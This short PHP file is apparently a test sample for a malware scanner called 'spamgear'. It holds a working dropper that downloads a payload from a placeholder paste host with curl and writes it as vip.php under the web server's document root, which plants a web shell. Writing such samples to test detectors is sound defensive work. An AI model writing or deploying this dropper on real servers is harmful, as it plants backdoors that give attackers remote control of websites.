<?php
// spamgear test sample: a dropper that fetches a shell through its own curl
// helper and writes it under the document root through a file handle.
function fetch_url($url)
{
    $c = curl_init($url);
    curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
    return curl_exec($c);
}
$target = $_SERVER['DOCUMENT_ROOT'] . "/tmp/vip.php";
$text = fetch_url('https://paste.example.com/raw/abc');
$fh = fopen($target, 'w');
fwrite($fh, $text);
fclose($fh);
